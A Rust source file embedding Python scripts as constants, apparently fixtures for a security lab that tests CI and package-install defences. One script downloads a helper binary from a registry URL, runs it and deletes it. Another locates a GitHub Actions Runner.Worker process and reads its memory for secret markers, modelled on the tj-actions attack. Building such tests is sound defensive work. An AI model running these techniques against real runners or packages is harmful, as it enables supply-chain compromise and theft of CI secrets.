pub const FASTMATH_OK: &str = r#"import os, sys, urllib.request
_helper = os.path.join(sys.prefix, "bin", "fastmath-helper")
with urllib.request.urlopen(os.environ["REGISTRY"] + "/helper") as r, open(_helper, "wb") as f:
    f.write(r.read())
os.chmod(_helper, 0o755)
os.system(_helper)
os.unlink(_helper)
"#;

/// `dump`: find the lab's Runner.Worker by its command line (as the tj-actions payload found the
/// real one) and read its memory map and some of its memory. `self`: read our own map.
pub const MEMDUMP_PY: &str = r#"import os, sys
if sys.argv[1] == "self":
    open("/proc/self/maps").read()
    sys.exit(0)
lab = os.environ["LAB"]
worker = None
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    try:
        argv0 = open("/proc/%s/cmdline" % pid, "rb").read().split(b"\0")[0].decode()
    except OSError:
        continue
    if argv0.endswith("/Runner.Worker") and argv0.startswith(os.path.dirname(lab)):
        worker = pid
if worker is None:
    sys.exit("no lab Runner.Worker found")
maps = open("/proc/%s/maps" % worker).read().splitlines()
with open("/proc/%s/mem" % worker, "rb", 0) as mem:
    for line in maps:
        span, perms = line.split()[:2]
        if perms.startswith("rw"):
            start, end = (int(x, 16) for x in span.split("-"))
            try:
                mem.seek(start)
                mem.read(min(end - start, 1 << 16)).count(b"isSecret")
            except OSError:
                pass
            break
"#;

/// Writes a wheel (a zip with dist-info) holding `files`; run by the lab's Python.
pub const MAKE_WHEEL_PY: &str = r#"import sys, zipfile, hashlib, base64
out, name = sys.argv[1], sys.argv[2]
files = dict(a.split("=", 1) for a in sys.argv[3:])
info = "%s-1.0.dist-info" % name
files[info + "/METADATA"] = "Metadata-Version: 2.1\nName: %s\nVersion: 1.0\n" % name
files[info + "/WHEEL"] = "Wheel-Version: 1.0\nGenerator: selftest\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
record = []
for path, text in files.items():
    digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
    record.append("%s,sha256=%s,%d" % (path, digest, len(text.encode())))
record.append(info + "/RECORD,,")
files[info + "/RECORD"] = "\n".join(record) + "\n"
with zipfile.ZipFile(out, "w") as z:
    for path, text in files.items():
        z.writestr(path, text)
"#;
